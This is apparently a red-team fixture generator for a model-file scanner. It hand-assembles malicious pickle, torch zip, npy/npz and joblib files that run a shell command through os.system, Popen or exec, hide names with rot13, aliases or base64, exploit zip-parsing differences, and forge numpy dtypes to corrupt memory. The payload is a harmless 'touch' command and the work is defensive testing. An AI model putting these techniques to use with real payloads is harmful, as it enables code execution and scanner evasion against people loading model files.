# Red-team fixtures (session 3): attacks not in the peer corpora or the
# earlier fixtures, one per class, each proven under the loader its label
# names:
#
#     cd formats/pickle && /usr/bin/python3 testdata/make_redteam.py
#
# (Debian python3 3.11, python3-torch 1.13, python3-numpy 1.24, joblib 1.2.)
# Writes testdata/attacks/redteam/<name> and labels.tsv (name, class,
# loader, live: "runs" when the payload ran under that loader here,
# "crash" when the loader dies on a signal (memory corruption from a
# pointer the file controls), "refused" when the loader raises before any payload, "parsed-only" when
# no stock loader reads that part of the file). The payload is harmless:
# it creates a file named modelvet-poc in the current folder, and every
# proof runs in a fresh temporary folder. Do not load them anyway.
import bz2, io, lzma, os, struct, subprocess, sys, tarfile, tempfile, zipfile, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "attacks", "redteam")
CMD = "touch modelvet-poc"
MARK = "modelvet-poc"

# Fixed member dates, so that regenerating changes no archive bytes.
_writestr = zipfile.ZipFile.writestr


def _fixed_date_writestr(self, name, data, *a, **k):
    if isinstance(name, str):
        info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
        info.compress_type = self.compression
        name = info
    return _writestr(self, name, data, *a, **k)


zipfile.ZipFile.writestr = _fixed_date_writestr


class P:
    """A hand-written pickle; protocol given by the caller."""

    def __init__(self, proto=2):
        self.b = bytearray()
        if proto is not None:
            self.b += bytes([0x80, proto])

    def op(self, *bs):
        for x in bs:
            self.b += x if isinstance(x, (bytes, bytearray)) else bytes([x])
        return self

    def g(self, mod, name):  # GLOBAL
        return self.op(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")

    def s(self, text):  # BINUNICODE
        raw = text.encode("utf-8", "surrogatepass")
        return self.op(b"X" + struct.pack("<I", len(raw)) + raw)

    def by(self, raw):  # BINBYTES
        return self.op(b"B" + struct.pack("<I", len(raw)) + raw)

    def sg(self, mod, name):  # STACK_GLOBAL of literal strings
        return self.s(mod).s(name).op(0x93)

    def i(self, n):
        return self.op(b"J" + struct.pack("<i", n))

    def mark(self):
        return self.op(b"(")

    def tup(self):
        return self.op(b"t")

    def t1(self):
        return self.op(0x85)

    def t2(self):
        return self.op(0x86)

    def t3(self):
        return self.op(0x87)

    def reduce(self):
        return self.op(b"R")

    def put(self, n):
        return self.op(b"q" + bytes([n]))

    def get(self, n):
        return self.op(b"h" + bytes([n]))

    def empty_dict(self):
        return self.op(b"}")

    def empty_tuple(self):
        return self.op(b")")

    def none(self):
        return self.op(b"N")

    def pop(self):
        return self.op(b"0")

    def stop(self):
        return bytes(self.op(b".").b)

    def system(self, mod="os", name="system"):
        return self.g(mod, name).s(CMD).t1().reduce()


def system_pickle(proto=2):
    return P(proto).system().stop()


BENIGN = P(2).mark().s("weight").i(1).op(b"d").stop()  # {"weight": 1}


# ---- pickle-level classes -------------------------------------------------

def getattr_import_module():
    # builtins.getattr(importlib.import_module("os"), "system")(cmd)
    p = P(4).sg("builtins", "getattr").sg("importlib", "import_module").s("os").t1().reduce()
    return p.s("system").t2().reduce().s(CMD).t1().reduce().stop()


def operator_attrgetter():
    # operator.attrgetter("system")(builtins.__import__("os"))(cmd)
    p = P(2).g("operator", "attrgetter").s("system").t1().reduce()
    p.g("builtins", "__import__").s("os").t1().reduce().t1().reduce()
    return p.s(CMD).t1().reduce().stop()


def operator_methodcaller():
    # operator.methodcaller("system", cmd)(builtins.__import__("os"))
    p = P(2).g("operator", "methodcaller").s("system").s(CMD).t2().reduce()
    return p.g("builtins", "__import__").s("os").t1().reduce().t1().reduce().stop()


def functools_partial():
    # functools.partial(os.system, cmd)()
    p = P(2).g("functools", "partial").g("posix", "system").s(CMD).t2().reduce()
    return p.empty_tuple().reduce().stop()


def functools_reduce_getattr():
    # functools.reduce(getattr, ["system"], __import__("os"))(cmd)
    p = P(2).g("functools", "reduce").g("builtins", "getattr")
    p.op(b"]").s("system").op(b"a")
    p.g("builtins", "__import__").s("os").t1().reduce().t3().reduce()
    return p.s(CMD).t1().reduce().stop()


def copyreg_reconstructor_popen():
    # copyreg._reconstructor(OrderedDict, subprocess.Popen, argv): base.__init__(obj, argv)
    p = P(2).g("copyreg", "_reconstructor").g("collections", "OrderedDict").g("subprocess", "Popen")
    p.op(b"]").s("touch").op(b"a").s(MARK).op(b"a").t3().reduce()
    return p.stop()


def obj_opcode_popen():
    # OBJ: MARK cls args... OBJ calls cls(*args)
    p = P(2).mark().g("subprocess", "check_call").op(b"]").s("touch").op(b"a").s(MARK).op(b"a").op(b"o")
    return p.stop()


def inst_opcode_posix():
    # protocol 0 INST of posix.system (os's implementation module)
    return ("(V%s\niposix\nsystem\n." % CMD).encode()


def ext_code():
    # EXT1 42: the copyreg extension registry is empty in a stock Python,
    # so the load fails ("unregistered extension code").
    return P(2).op(0x82, 42).s(CMD).t1().reduce().stop()


def stack_global_memoize():
    # names reached only through MEMOIZE indexes and BINGET, out of order
    p = P(4).s("system").op(0x94).s("os").op(0x94).get(1).get(0).op(0x93)
    return p.s(CMD).t1().reduce().stop()


def stack_global_rot13():
    # STACK_GLOBAL of strings computed by the safe-listed _codecs.encode:
    # _codecs.encode("bf", "rot13") == "os", "flfgrz" -> "system".
    p = P(4).g("_codecs", "encode").s("bf").s("rot13").t2().reduce()
    p.g("_codecs", "encode").s("flfgrz").s("rot13").t2().reduce().op(0x93)
    return p.s(CMD).t1().reduce().stop()


def stack_global_str_of_bytes():
    # STACK_GLOBAL of builtins.str(b"os", "latin1")
    p = P(4).g("builtins", "str").by(b"os").s("latin1").t2().reduce()
    p.g("builtins", "str").by(b"system").s("latin1").t2().reduce().op(0x93)
    return p.s(CMD).t1().reduce().stop()


def dotted_alias_numpy_builtins():
    # numpy re-exports builtins as numpy._builtins: a dotted protocol-4 name
    return P(4).sg("numpy", "_builtins.exec").s("__import__('os').system(%r)" % CMD).t1().reduce().stop()


def dotted_alias_enum_bltns():
    return P(4).sg("enum", "bltns.exec").s("__import__('os').system(%r)" % CMD).t1().reduce().stop()


def dotted_alias_collections_sys():
    # collections._sys.modules.get("os") is the os module; getattr via
    # functools.reduce keeps every name behind an alias.
    p = P(4).sg("functools", "reduce").sg("collections", "_sys.modules.__getitem__.__self__.get")
    p.op(b"]").s("os").op(b"a").t2().reduce()  # reduce(get, ["os"]) == "os" (one item: not called)
    p.pop()
    p.sg("collections", "_sys.modules.get").s("os").t1().reduce()
    p.pop()
    p.sg("random", "_os.system").s(CMD).t1().reduce()
    return p.stop()


def dotted_safe_class_globals():
    # pathlib.Path is safe-listed; a dotted name walks from it into pathlib's
    # module globals: pathlib.Path.__new__.__globals__ is not reachable by
    # getattr alone, but Path.home.__func__.__globals__ is a dict; the walk
    # stops at dict (no item access), so the reachable attack is the
    # classmethod's own module's os: pathlib.os.system.
    return P(4).sg("pathlib", "os.system").s(CMD).t1().reduce().stop()


def raw_unicode_escape_names():
    # protocol 0 UNICODE strings with \u escapes spell "os"/"system"
    p = P(None).op(b"Vo\\u0073\n").op(b"V\\u0073ystem\n").op(0x93)
    return p.op(b"(Vtouch modelvet-poc\ntR.").stop()[:-1]


def string_escape_names():
    # protocol 0 STRING with \x escapes, decoded to str (encoding ASCII)
    p = P(None).op(b"S'\\x6fs'\n").op(b"S'sys\\x74em'\n").op(0x93)
    return bytes(p.op(b"(S'touch modelvet-poc'\ntR.").b)


def setstate_override_instance():
    # BUILD #1 puts __setstate__ in an OrderedDict's instance dict; BUILD #2
    # calls inst.__setstate__(state), found through the instance.
    p = P(2).g("collections", "OrderedDict").empty_tuple().reduce()
    p.mark().s("__setstate__").g("posix", "system").op(b"d").op(b"b")
    return p.s(CMD).op(b"b").stop()


def build_slotstate_setattr_class():
    # BUILD (None, {"__reduce_ex__": ...}) on the safe-listed torch.Tensor
    # class itself: setattr on a Python class rewrites every later save.
    p = P(2).g("torch", "Tensor").none().mark().s("__reduce_ex__").g("posix", "system").op(b"d").t2().op(b"b")
    return p.pop().op(b"}").stop()


def second_pickle_in_stream():
    # a benign pickle then a malicious one: pickle.load reads the first,
    # a loader that calls load() again (torch legacy, joblib side data,
    # a user reading a stream of records) runs the second.
    return BENIGN + system_pickle()


def frame_hides_stop():
    # protocol 4 FRAME whose declared length covers a STOP, then the
    # payload in a second frame: both unpicklers stop at the first STOP.
    body = P(None).op(b"N.").b
    fr = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + bytes(body)
    return fr + system_pickle(4)


def defaultdict_factory():
    # defaultdict(os.system) then SETITEM... runs only on a missing-key
    # lookup; dangerous import all the same
    p = P(2).g("collections", "defaultdict").g("posix", "system").t1().reduce()
    return p.stop()


def reconstructor_popen_newobj_ex():
    # NEWOBJ_EX with kwargs: cls.__new__(cls, *args, **kw) of a hostile class
    # (cls.__new__ is object.__new__: refused for Popen, TypeError) -> the
    # load fails before running anything: refused.
    p = P(4).sg("subprocess", "Popen").op(b"]").s("touch").op(b"a").s(MARK).op(b"a").t1().empty_dict().op(0x92)
    return p.stop()


def oob_buffer():
    # protocol 5 NEXT_BUFFER with no buffers given: pickle.load refuses.
    return P(5).op(0x97).stop()


def persid_plain():
    # BINPERSID in a plain pickle: pickle.load has no persistent_load: refused.
    return P(2).s("x").op(b"Q").stop()


def nested_load_from_bytes():
    # torch.storage._load_from_bytes(b): torch.load of embedded bytes
    return P(2).g("torch.storage", "_load_from_bytes").by(system_pickle()).t1().reduce().stop()


def nested_pickle_loads_b64():
    p = P(2).g("pickle", "loads").g("base64", "b64decode")
    import base64
    p.s(base64.b64encode(system_pickle()).decode()).t1().reduce().t1().reduce()
    return p.stop()


def numpy_object_array_elements():
    # ndarray of objects: the element list is unpickled (ndarray.__setstate__)
    p = P(2).g("numpy.core.multiarray", "_reconstruct").g("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()
    p.mark().i(1).i(1).t1().g("numpy", "dtype").s("O8").op(0x89, 0x88).t3().reduce()
    p.op(0x89).op(b"]").system().op(b"a").tup().op(b"b")
    return p.stop()


def forged_dtype(p, fields_before=0, base="V8", field_spec="O8", subarray=False, flags=0):
    # numpy.dtype(base) + BUILD (3, "|", subarray, names, fields, elsize, 1, flags):
    # numpy keeps the state's flags as given (arraydescr_setstate).
    p.g("numpy", "dtype").s(base).op(0x89, 0x88).t3().reduce()
    elsize = 8 * (fields_before + 1)
    p.mark().i(3).s("|")
    if subarray:
        p.g("numpy", "dtype").s(field_spec).op(0x89, 0x88).t3().reduce().i(1).t1().t2()
        p.none().none()
    elif base.lstrip("|").startswith("O"):
        p.none().none().none()
    else:
        p.none()
        p.mark()
        for k in range(fields_before):
            p.s("f%d" % k)
        p.s("a").tup()
        p.mark()
        for k in range(fields_before):
            p.s("f%d" % k).g("numpy", "dtype").s("f8").op(0x89, 0x88).t3().reduce().i(8 * k).t2()
        p.s("a").g("numpy", "dtype").s(field_spec).op(0x89, 0x88).t3().reduce().i(8 * fields_before).t2().op(b"d")
    p.i(elsize).i(1).i(flags).tup().op(b"b")
    return p, elsize


def forged_array(**kw):
    # builtins.str(ndarray whose dtype holds objects but whose flags say
    # it does not, filled from raw bytes): every name is safe-listed, and
    # str() dereferences 0x4141414141414141 as a PyObject.
    p = P(2).g("builtins", "str")
    p.g("numpy.core.multiarray", "_reconstruct").g("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()
    p.mark().i(1).i(1).t1()
    p, elsize = forged_dtype(p, **kw)
    p.op(0x89).by(b"\x41" * elsize).tup().op(b"b")
    return p.t1().reduce().stop()


def numpy_forged_dtype_flags():
    return forged_array()


def numpy_forged_object_dtype():
    return forged_array(base="|O8")


def numpy_forged_subarray():
    return forged_array(base="V8", subarray=True)


def numpy_forged_field_past_budget():
    # the object field is the 201st: past the 256 dict items modelvet keeps
    return forged_array(fields_before=200)


def layout_dtype(p, field_spec, offset, flags, subarray=None):
    # numpy.dtype("V8") + BUILD (3, "|", subarray, names, fields, 8, 1, flags)
    # with the field (or subarray) outside the 8-byte item.
    p.g("numpy", "dtype").s("V8").op(0x89, 0x88).t3().reduce()
    p.mark().i(3).s("|")
    if subarray:
        p.g("numpy", "dtype").s(field_spec).op(0x89, 0x88).t3().reduce().i(subarray).t1().t2()
        p.none().none()
    else:
        p.none().s("a").t1()
        p.mark().s("a").g("numpy", "dtype").s(field_spec).op(0x89, 0x88).t3().reduce().i(offset).t2().op(b"d")
    p.i(8).i(1).i(flags).tup().op(b"b")
    return p


def layout_array(data, **kw):
    p = P(2).g("numpy.core.multiarray", "_reconstruct").g("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()
    p.mark().i(1).i(1).t1()
    layout_dtype(p, **kw)
    p.op(0x89)
    data(p)
    return p.tup().op(b"b")


def numpy_forged_field_offset_write():
    # object field at offset 1<<24 of an 8-byte item, flags right (63):
    # ndarray.__setstate__'s list path stores the item 16 MiB past the
    # buffer during pickle.load itself.
    return layout_array(lambda p: p.op(b"]").s("x").t1().op(b"a"), field_spec="O8", offset=1 << 24, flags=63).stop()


def numpy_forged_field_offset_read():
    # plain f8 field at offset 1<<24, data from raw bytes; str() reads it
    p = P(2).g("builtins", "str")
    p.b += layout_array(lambda p: p.by(b"A" * 8), field_spec="<f8", offset=1 << 24, flags=0).b[2:]
    return p.t1().reduce().stop()


def numpy_forged_subarray_overflow():
    # subarray of 1<<22 objects in an 8-byte item, list path
    return layout_array(lambda p: p.op(b"]").op(b"]").s("x").op(b"a").t1().op(b"a"), field_spec="O8", offset=0, flags=63, subarray=1 << 22).stop()


def numpy_ndarray_object_buffer():
    # builtins.str(numpy.ndarray((1,), "O", b"AAAAAAAA")): numpy accepts a
    # bytes buffer for an object dtype; str() dereferences the bytes.
    p = P(2).g("builtins", "str").g("numpy", "ndarray").i(1).t1().s("O").by(b"A" * 8).t3().reduce()
    return p.t1().reduce().stop()


def numpy_recarray_object_buffer():
    p = P(2).g("builtins", "str").g("numpy", "recarray").i(1).t1()
    p.op(b"]").s("a").s("O").t2().op(b"a").by(b"A" * 8).t3().reduce()
    return p.t1().reduce().stop()


def numpy_newobj_ex_buffer_kwarg():
    # NEWOBJ_EX: ndarray.__new__(ndarray, (1,), dtype="O", buffer=b"A"*8)
    p = P(4).sg("builtins", "str").sg("numpy", "ndarray").i(1).t1().t1()
    p.mark().s("dtype").s("O").s("buffer").by(b"A" * 8).op(b"d").op(0x92)
    return p.t1().reduce().stop()


def numpy_copyreg_newobj_buffer():
    # copyreg.__newobj__(ndarray, (1,), "O", b"A"*8)
    p = P(2).g("builtins", "str").g("copyreg", "__newobj__").mark().g("numpy", "ndarray").i(1).t1().s("O").by(b"A" * 8).tup().reduce()
    return p.t1().reduce().stop()


def numpy_rng_pos_oob():
    # RandomState with MT19937 pos = 10**7: numpy copies it into the C
    # state unchecked; the first draw reads key[10**7].
    import numpy as np
    import pickle as _pickle
    rs = np.random.RandomState(0)
    raw = _pickle.dumps(rs, protocol=2)
    # numpy writes pos as BININT2 (624); patch that one literal.
    i = raw.index(b"pos")
    j = raw.index(b"M" + struct.pack("<H", 624), i)
    return raw[:j] + b"J" + struct.pack("<i", 10 ** 7) + raw[j + 3:]


def numpy_rng_philox_buffer_pos():
    # Generator(Philox) with buffer_pos = -2**31: reads 16 GiB before its buffer
    import numpy as np
    import pickle as _pickle
    raw = _pickle.dumps(np.random.Generator(np.random.Philox(0)), protocol=2)
    i = raw.index(b"buffer_pos")
    j = raw.index(b"K\x04", i)
    return raw[:j] + b"J" + struct.pack("<i", -2 ** 31) + raw[j + 2:]


def numpy_object_short_list():
    # the standard ndarray path: _reconstruct + BUILD (1, (4,), dtype("O"),
    # False, ["x"]): numpy fills four items from a one-item list.
    p = P(2).g("builtins", "str")
    p.g("numpy.core.multiarray", "_reconstruct").g("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()
    p.mark().i(1).i(4).t1().g("numpy", "dtype").s("O8").op(0x89, 0x88).t3().reduce()
    p.op(0x89).op(b"]").s("x").op(b"a").tup().op(b"b")
    return p.t1().reduce().stop()


# ---- containers: torch zip -------------------------------------------------

def torch_zip_bytes(pkl, name="archive", extra=(), dup_first=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        if dup_first is not None:
            z.writestr(name + "/data.pkl", dup_first)
        z.writestr(name + "/data.pkl", pkl)
        z.writestr(name + "/version", b"3\n")
        for n, d in extra:
            z.writestr(n, d)
    return buf.getvalue()


def zip_dup_data_pkl_evil_last():
    import warnings
    warnings.simplefilter("ignore")
    return torch_zip_bytes(system_pickle(), dup_first=BENIGN)


def zip_dup_data_pkl_evil_first():
    import warnings
    warnings.simplefilter("ignore")
    return torch_zip_bytes(BENIGN, dup_first=system_pickle())


def zip_prepended_pickle():
    # a pickle followed by a valid torch zip: torch.load sees no "PK\3\4"
    # at offset 0 and unpickles the file (legacy path); zip readers that
    # search the end record see a clean archive.
    return system_pickle() + torch_zip_bytes(BENIGN)


def zip_second_prefix():
    # two record folders: torch reads the folder of the first entry
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a/data.pkl", system_pickle())
        z.writestr("a/version", b"3\n")
        z.writestr("b/data.pkl", BENIGN)
        z.writestr("b/version", b"3\n")
    return buf.getvalue()


def zip_local_name_differs():
    # local header says archive/zzzzzzzz, central directory archive/data.pkl
    data = torch_zip_bytes(system_pickle())
    i = data.index(b"PK\x03\x04")
    n = struct.unpack("<H", data[i + 26:i + 28])[0]
    name = data[i + 30:i + 30 + n]
    return data[:i + 30] + b"archive/zzzzzzzz"[:n].ljust(n, b"z") + data[i + 30 + n:]


def zip_comment_pickle():
    # a pickle in the archive comment: no stock loader reads it
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", BENIGN)
        z.writestr("archive/version", b"3\n")
        z.comment = system_pickle()
    return buf.getvalue()


def zip_deflated_data_pkl():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", system_pickle())
        z.writestr("archive/version", b"3\n")
    return buf.getvalue()


def zip_zip64():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", allowZip64=True) as z:
        with z.open("archive/data.pkl", "w", force_zip64=True) as f:
            f.write(system_pickle())
        z.writestr("archive/version", b"3\n")
    return buf.getvalue()


def zip_bad_crc():
    # CRC-32 of data.pkl wrong in both headers: torch's miniz is built with
    # MINIZ_DISABLE_ZIP_READER_CRC32_CHECKS and loads it anyway.
    d = bytearray(torch_zip_bytes(system_pickle()))
    i = d.index(b"PK\x01\x02")
    d[i + 16:i + 20] = b"\0\0\0\1"
    j = d.index(b"PK\x03\x04")
    d[j + 14:j + 18] = b"\0\0\0\1"
    return bytes(d)


def zip_fake_end_record():
    # A benign archive whose end-record comment is itself an end record
    # pointing at an earlier, malicious central directory: miniz (torch)
    # takes the last signature in the file, a reader that checks the
    # comment length takes the first.
    ben = torch_zip_bytes(BENIGN)
    evz = torch_zip_bytes(system_pickle())
    e_eocd = evz.rindex(b"PK\x05\x06")
    body = evz[:e_eocd]
    b_eocd = ben.rindex(b"PK\x05\x06")
    b_cdoff = struct.unpack("<I", ben[b_eocd + 16:b_eocd + 20])[0]
    shift = len(body)
    bcd = bytearray(ben[b_cdoff:b_eocd])
    k = 0
    while k < len(bcd):
        n, e, c = struct.unpack("<HHH", bcd[k + 28:k + 34])
        off = struct.unpack("<I", bcd[k + 42:k + 46])[0]
        bcd[k + 42:k + 46] = struct.pack("<I", off + shift)
        k += 46 + n + e + c
    fake = evz[e_eocd:e_eocd + 22]
    real = bytearray(ben[b_eocd:b_eocd + 22])
    real[16:20] = struct.pack("<I", b_cdoff + shift)
    real[20:22] = struct.pack("<H", len(fake))
    return body + ben[:b_cdoff] + bytes(bcd) + bytes(real) + fake


def zip_numpy_object_array():
    return torch_zip_bytes(numpy_object_array_elements())


# ---- containers: torch legacy ---------------------------------------------

MAGIC = P(2).op(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19").stop()
PROTO_V = P(2).op(b"M" + struct.pack("<H", 1001)).stop()
SYSINFO = P(2).mark().s("protocol_version").op(b"M" + struct.pack("<H", 1001)).s("little_endian").op(0x88).op(b"d").stop()
KEYS = P(2).op(b"]").stop()


def legacy_evil_magic():
    return system_pickle() + PROTO_V + SYSINFO + BENIGN + KEYS


def legacy_evil_sysinfo():
    return MAGIC + PROTO_V + system_pickle() + BENIGN + KEYS


def legacy_evil_keys():
    return MAGIC + PROTO_V + SYSINFO + BENIGN + system_pickle()


def tar_add(t, name, data):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    t.addfile(ti, io.BytesIO(data))


def legacy_tar(member):
    buf = io.BytesIO()
    parts = {"sys_info": SYSINFO, "pickle": BENIGN, "storages": P(2).i(0).stop(), "tensors": P(2).i(0).stop()}
    parts[member] = system_pickle()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for n in ("sys_info", "pickle", "storages", "tensors"):
            tar_add(t, n, parts[n])
    return buf.getvalue()


# ---- numpy -----------------------------------------------------------------

def npy(header_dict_src, payload, version=(1, 0)):
    h = header_dict_src.encode("latin1")
    if version == (1, 0):
        pad = 64 - (10 + len(h) + 1) % 64
        h = h + b" " * pad + b"\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + payload
    pad = 64 - (12 + len(h) + 1) % 64
    h = h + b" " * pad + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack("<I", len(h)) + h + payload


OBJ_PAYLOAD = P(3).op(b"]").system().op(b"a").stop()


def npy_dup_descr():
    return npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}", OBJ_PAYLOAD)


def npy_concat_descr():
    return npy("{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_comment_header():
    return npy("{'descr': '|O', # 'descr': '<f8',\n 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_structured_object():
    return npy("{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_subarray_object():
    return npy("{'descr': [('a', '|O', (1,))], 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_fortran_object():
    return npy("{'descr': '|O', 'fortran_order': True, 'shape': (1, 1), }", OBJ_PAYLOAD)


def npy_v3_object():
    return npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD, (3, 0))


def npy_unicode_escape_descr():
    return npy("{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_zero_shape_object():
    # shape (0,) object array: numpy still unpickles the (empty) payload?
    # numpy reads the pickle only when count > 0: the shape is a lie here
    # (0 items) but a negative-free shape product 0 means no pickle.load:
    # a stock numpy does not run it (refused/inert).
    return npy("{'descr': '|O', 'fortran_order': False, 'shape': (0,), }", OBJ_PAYLOAD)


def npy_raw_pickle():
    # a .npy name on a plain pickle: numpy.load(allow_pickle=True) unpickles it
    return system_pickle()


def npz_of(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in members:
            z.writestr(n, d)
    return buf.getvalue()


def npy_evil():
    return npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", OBJ_PAYLOAD)


def npy_benign():
    return npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\0" * 8)


def npz_member_without_suffix():
    return npz_of([("a.npy", npy_benign()), ("x", npy_evil())])


def npz_dup_member():
    import warnings
    warnings.simplefilter("ignore")
    return npz_of([("x.npy", npy_benign()), ("x.npy", npy_evil())])


def npz_raw_pickle_member():
    # a member that is a bare pickle: NpzFile returns its bytes (not loaded)
    return npz_of([("x.npy", npy_benign()), ("y.pkl", system_pickle())])


# ---- joblib ----------------------------------------------------------------

def joblib_obj_wrapper():
    # NumpyArrayWrapper for an object array: joblib pickle.load()s the
    # inline data that follows the wrapper.
    p = P(2).g("joblib.numpy_pickle", "NumpyArrayWrapper").op(b")").op(0x81)
    p.mark().s("subclass").g("numpy", "ndarray").s("shape").i(1).t1().s("order").s("C")
    p.s("dtype").g("numpy", "dtype").s("O8").op(0x89, 0x88).t3().reduce()
    p.mark().i(3).s("|").none().none().none().i(-1).i(-1).i(63).op(b"t").op(b"b")
    p.s("allow_mmap").op(0x89).op(b"d").op(b"b")
    return bytes(p.b) + OBJ_PAYLOAD + b"."


def joblib_lzma():
    return lzma.compress(system_pickle(), format=lzma.FORMAT_ALONE)


def joblib_bz2():
    return bz2.compress(system_pickle())


def joblib_zfile_compat():
    # joblib < 0.10 "ZF" files: hex length then zlib data, still read by
    # joblib.load (numpy_pickle_compat.read_zfile).
    ev = system_pickle()
    return b"ZF" + hex(len(ev)).encode().ljust(19, b" ") + zlib.compress(ev)


def joblib_xz_obj_wrapper():
    return lzma.compress(joblib_obj_wrapper(), format=lzma.FORMAT_XZ)


# name, builder, class, loader, expected live outcome
FIXTURES = [
    ("getattr_import_module.pkl", getattr_import_module, "getattr-chain", "pickle.load", "runs"),
    ("operator_attrgetter.pkl", operator_attrgetter, "attrgetter-chain", "pickle.load", "runs"),
    ("operator_methodcaller.pkl", operator_methodcaller, "methodcaller-chain", "pickle.load", "runs"),
    ("functools_partial.pkl", functools_partial, "partial-chain", "pickle.load", "runs"),
    ("functools_reduce_getattr.pkl", functools_reduce_getattr, "reduce-chain", "pickle.load", "runs"),
    ("copyreg_reconstructor_popen.pkl", copyreg_reconstructor_popen, "copyreg-reconstructor-hostile-base", "pickle.load", "runs"),
    ("obj_opcode_check_call.pkl", obj_opcode_popen, "obj-opcode", "pickle.load", "runs"),
    ("inst_opcode_posix.pkl", inst_opcode_posix, "inst-opcode", "pickle.load", "runs"),
    ("ext_code.pkl", ext_code, "ext-code", "pickle.load", "refused"),
    ("stack_global_memoize.pkl", stack_global_memoize, "memo-memoize-stack-global", "pickle.load", "runs"),
    ("stack_global_rot13.pkl", stack_global_rot13, "computed-name-safe-listed-codec", "pickle.load", "runs"),
    ("stack_global_str_of_bytes.pkl", stack_global_str_of_bytes, "computed-name-builtins-str", "pickle.load", "runs"),
    ("dotted_numpy_builtins.pkl", dotted_alias_numpy_builtins, "dotted-alias-module", "pickle.load", "runs"),
    ("dotted_enum_bltns.pkl", dotted_alias_enum_bltns, "dotted-alias-module", "pickle.load", "runs"),
    ("dotted_random_os.pkl", dotted_alias_collections_sys, "dotted-alias-module", "pickle.load", "runs"),
    ("dotted_pathlib_os.pkl", dotted_safe_class_globals, "dotted-from-safe-module", "pickle.load", "runs"),
    ("raw_unicode_escape_names.pkl", raw_unicode_escape_names, "escaped-names-proto0", "pickle.load", "runs"),
    ("string_escape_names.pkl", string_escape_names, "escaped-names-proto0", "pickle.load", "runs"),
    ("setstate_override_instance.pkl", setstate_override_instance, "build-instance-setstate", "pickle.load", "runs"),
    ("build_slotstate_tensor_class.pkl", build_slotstate_setattr_class, "build-on-safe-class", "pickle.load", "parsed-only"),
    ("second_pickle_in_stream.pkl", second_pickle_in_stream, "multi-pickle-stream", "pickle.load x2", "runs"),
    ("frame_then_second_pickle.pkl", frame_hides_stop, "frame-multi-pickle", "pickle.load x2", "runs"),
    ("defaultdict_factory.pkl", defaultdict_factory, "deferred-factory", "pickle.load", "parsed-only"),
    ("newobj_ex_popen.pkl", reconstructor_popen_newobj_ex, "newobj-ex-hostile-class", "pickle.load", "refused"),
    ("oob_buffer.pkl", oob_buffer, "out-of-band-buffer", "pickle.load", "refused"),
    ("persid_plain.pkl", persid_plain, "persid-plain-pickle", "pickle.load", "refused"),
    ("nested_load_from_bytes.pkl", nested_load_from_bytes, "nested-torch-bytes", "pickle.load", "runs"),
    ("nested_pickle_b64.pkl", nested_pickle_loads_b64, "nested-base64", "pickle.load", "runs"),
    ("numpy_forged_dtype_flags.pkl", numpy_forged_dtype_flags, "numpy-dtype-flags-forged", "pickle.load", "crash"),
    ("numpy_forged_object_dtype.pkl", numpy_forged_object_dtype, "numpy-dtype-flags-forged", "pickle.load", "crash"),
    ("numpy_forged_subarray.pkl", numpy_forged_subarray, "numpy-dtype-flags-forged", "pickle.load", "crash"),
    ("numpy_forged_field_past_budget.pkl", numpy_forged_field_past_budget, "numpy-dtype-flags-forged", "pickle.load", "crash"),
    ("numpy_forged_field_offset_write.pkl", numpy_forged_field_offset_write, "numpy-dtype-layout-forged", "pickle.load", "crash"),
    ("numpy_forged_field_offset_read.pkl", numpy_forged_field_offset_read, "numpy-dtype-layout-forged", "pickle.load", "crash"),
    ("numpy_forged_subarray_overflow.pkl", numpy_forged_subarray_overflow, "numpy-dtype-layout-forged", "pickle.load", "crash"),
    ("numpy_ndarray_object_buffer.pkl", numpy_ndarray_object_buffer, "numpy-object-array-raw-buffer", "pickle.load", "crash"),
    ("numpy_recarray_object_buffer.pkl", numpy_recarray_object_buffer, "numpy-object-array-raw-buffer", "pickle.load", "crash"),
    ("numpy_newobj_ex_buffer_kwarg.pkl", numpy_newobj_ex_buffer_kwarg, "numpy-object-array-raw-buffer", "pickle.load", "crash"),
    ("numpy_copyreg_newobj_buffer.pkl", numpy_copyreg_newobj_buffer, "numpy-object-array-raw-buffer", "pickle.load", "crash"),
    ("numpy_rng_pos_oob.pkl", numpy_rng_pos_oob, "numpy-rng-state-bounds", "pickle.load+draw", "crash"),
    ("numpy_rng_philox_buffer_pos.pkl", numpy_rng_philox_buffer_pos, "numpy-rng-state-bounds", "pickle.load+draw", "crash"),
    ("numpy_object_short_list.pkl", numpy_object_short_list, "numpy-object-array-short-list", "pickle.load", "crash"),
    ("numpy_object_elements.pkl", numpy_object_array_elements, "numpy-object-array-elements", "pickle.load", "runs"),
